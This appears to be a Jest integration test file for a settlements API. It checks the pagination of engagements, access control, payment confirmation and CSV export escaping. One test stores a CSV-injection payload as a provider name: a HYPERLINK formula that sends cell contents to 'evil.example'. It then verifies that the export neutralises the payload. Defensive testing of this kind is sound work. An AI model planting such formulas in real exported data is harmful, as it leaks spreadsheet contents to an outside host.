import type { INestApplicationContext } from '@nestjs/common';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { act, awardedEngagement } from '../factories/engagements.js';
import { createEnterprise } from '../factories/enterprises.js';
import { bearer, createAlliance } from '../factories/providers.js';
import { createProgram, issueVoucher, rmb } from '../factories/vouchers.js';
import { eventually, startApi, startWorker, type Api } from '../support/harness.js';

/** Settlements served in pieces: lines, the engagements behind them page by page, two streamed CSVs. */
describe('settlements', () => {
  let api: Api;
  let worker: INestApplicationContext;
  let alliance: { id: string; manager: string };

  beforeAll(async () => {
    api = await startApi();
    worker = await startWorker({ REDIS_PREFIX: `${process.env.REDIS_PREFIX}_settle` });
    alliance = await createAlliance(api, '徐汇结算服务联盟', ['xuhui']);
  });
  afterAll(async () => {
    await worker.close();
    await api.close();
  });

  /** A paid, delivered and accepted purchase with a voucher of `program`. */
  async function purchase(program: { id: string; officer: string }, country: string) {
    const enterprise = await createEnterprise(api, { district: 'xuhui' });
    const voucherId = await issueVoucher(api, program, enterprise.id, rmb(300_000));
    const deal = await awardedEngagement(api, alliance, { country, price: rmb(1_000_000).amount, enterprise, voucherId });
    const { reference } = (await act(api, enterprise.token, deal.engagement.id, 'payments', { method: 'bank_transfer' }).expect(201)).body;
    await act(api, deal.provider.token, deal.engagement.id, 'payments/confirm-transfer', { reference, amount: deal.engagement.enterpriseShare }).expect(200);
    await act(api, deal.provider.token, deal.engagement.id, 'deliver').expect(200);
    await act(api, enterprise.token, deal.engagement.id, 'accept').expect(200);
    return deal;
  }

  async function settle(program: { id: string; officer: string }): Promise<string> {
    const { runId } = (await api.http.post(`/v1/programs/${program.id}/reconciliations`).set(bearer(program.officer)).expect(202)).body;
    const run = await eventually(
      () =>
        api.http
          .get(`/v1/reconciliations/${runId}`)
          .set(bearer(program.officer))
          .then((r) => r.body),
      (body) => body.status === 'completed' || body.status === 'failed',
      20_000,
    );
    expect(run.status).toBe('completed');
    const list = await api.http.get(`/v1/programs/${program.id}/settlements`).set(bearer(program.officer)).expect(200);
    return list.body.data[0].id as string;
  }

  const csvOf = async (token: string, path: string) => {
    const res = await api.http
      .get(path)
      .set(bearer(token))
      .set('Accept', 'text/csv')
      .buffer(true)
      .parse((r, done) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (chunk: string) => (text += chunk));
        r.on('end', () => done(null, text));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect((res.body as string).startsWith('\uFEFF')).toBe(true);
    return parse((res.body as string).slice(1), { relax_column_count: false }) as string[][];
  };

  it('escapes a provider name that would run as a spreadsheet formula in the settlement CSV', async () => {
    const program = await createProgram(api);
    const deal = await purchase(program, 'AG');
    const hostile = '=HYPERLINK("https://evil.example/?"&B2,"详情")';
    await api.http.patch(`/v1/providers/${deal.provider.id}`).set(bearer(deal.provider.token)).send({ name: hostile }).expect(200);
    const settlementId = await settle(program);

    const rows = await csvOf(program.officer, `/v1/settlements/${settlementId}`);
    expect(rows[0]).toEqual(['payeeType', 'payeeId', 'payeeName', 'engagements', 'amount', 'currency']);
    const line = rows.find((r) => r[1] === deal.provider.id)!;
    expect(line[2]!.startsWith('=')).toBe(false);
    expect(line[2]).toBe(`'${hostile}`);
    expect(line[4]).toBe('300000.00');

    const detail = await csvOf(program.officer, `/v1/settlements/${settlementId}?detail=engagements`);
    const engagementLine = detail.find((r) => r.includes(deal.engagement.id))!;
    expect(engagementLine.some((cell) => cell.startsWith('='))).toBe(false);
    expect(engagementLine).toContain(`'${hostile}`);
  });

  it('serves lines without engagement ids, the engagements page by page, a per-engagement export, and confirms with the header only', async () => {
    const program = await createProgram(api);
    const deals = [];
    for (const country of ['AG', 'KN', 'KM']) deals.push(await purchase(program, country));
    const settlementId = await settle(program);

    const view = (await api.http.get(`/v1/settlements/${settlementId}`).set(bearer(program.officer)).expect(200)).body;
    expect(view.total).toEqual(rmb(900_000));
    expect(view.lines).toHaveLength(3);
    for (const line of view.lines) expect(line).not.toHaveProperty('engagementIds');

    // Every engagement exactly once, two at a time, and per payee.
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const query: Record<string, string> = { limit: '2', ...(cursor ? { cursor } : {}) };
      const page = (await api.http.get(`/v1/settlements/${settlementId}/engagements`).query(query).set(bearer(program.officer)).expect(200)).body;
      expect(page.data.length).toBeLessThanOrEqual(2);
      seen.push(...page.data.map((e: { engagementId: string }) => e.engagementId));
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen.sort()).toEqual(deals.map((d) => d.engagement.id).sort());
    const one = (
      await api.http.get(`/v1/settlements/${settlementId}/engagements`).query({ payeeId: deals[1]!.provider.id }).set(bearer(program.officer)).expect(200)
    ).body;
    expect(one).toEqual({
      data: [
        { engagementId: deals[1]!.engagement.id, claimId: expect.any(String), payeeType: 'provider', payeeId: deals[1]!.provider.id, amount: rmb(300_000) },
      ],
      nextCursor: null,
    });
    await api.http.get(`/v1/settlements/${settlementId}/engagements`).query({ payeeId: 'nope' }).set(bearer(program.officer)).expect(400);
    await api.http.get(`/v1/settlements/${settlementId}/engagements`).query({ cursor: 'garbage' }).set(bearer(program.officer)).expect(400);
    const outsider = await api.token('district_officer', 'minhang');
    await api.http.get(`/v1/settlements/${settlementId}/engagements`).set(bearer(outsider)).expect(404);
    await api.http.get(`/v1/settlements/${settlementId}`).set(bearer(outsider)).set('Accept', 'text/csv').expect(404);

    const detail = await csvOf(program.officer, `/v1/settlements/${settlementId}?detail=engagements`);
    expect(detail[0]).toEqual(['payeeType', 'payeeId', 'payeeName', 'engagementId', 'claimId', 'amount', 'currency']);
    expect(
      detail
        .slice(1)
        .map((r) => r[3])
        .sort(),
    ).toEqual(deals.map((d) => d.engagement.id).sort());
    expect(detail.slice(1).every((r) => r[5] === '300000.00' && r[6] === 'CNY')).toBe(true);

    const paid = (
      await api.http
        .post(`/v1/settlements/${settlementId}/confirm`)
        .set(bearer(program.officer))
        .send({ paidAt: new Date().toISOString(), reference: 'XH-2026-12' })
        .expect(200)
    ).body;
    expect(paid).toMatchObject({ id: settlementId, status: 'paid', reference: 'XH-2026-12', total: rmb(900_000) });
    expect(paid).not.toHaveProperty('lines');
  });
});
